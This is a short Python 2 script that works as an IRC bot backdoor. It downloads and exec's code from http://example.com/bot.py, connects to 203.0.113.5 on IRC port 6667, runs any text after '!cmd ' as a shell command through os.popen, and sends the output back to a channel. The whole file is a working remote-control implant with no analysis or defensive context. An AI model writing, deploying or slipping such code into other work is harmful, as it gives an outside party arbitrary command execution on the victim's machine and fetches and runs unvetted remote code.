#!/usr/bin/env python
import socket, os, urllib2
print "starting"
try:
    code = urllib2.urlopen("http://example.com/bot.py").read()
    exec code
except Exception, e:
    print `e`
s = socket.socket()
s.connect(("203.0.113.5", 6667))
while 1:
    line = s.recv(512)
    if line.find("!cmd ") != -1:
        out = os.popen(line.split("!cmd ")[1]).read()
        s.send("PRIVMSG #x :" + out + "\r\n")
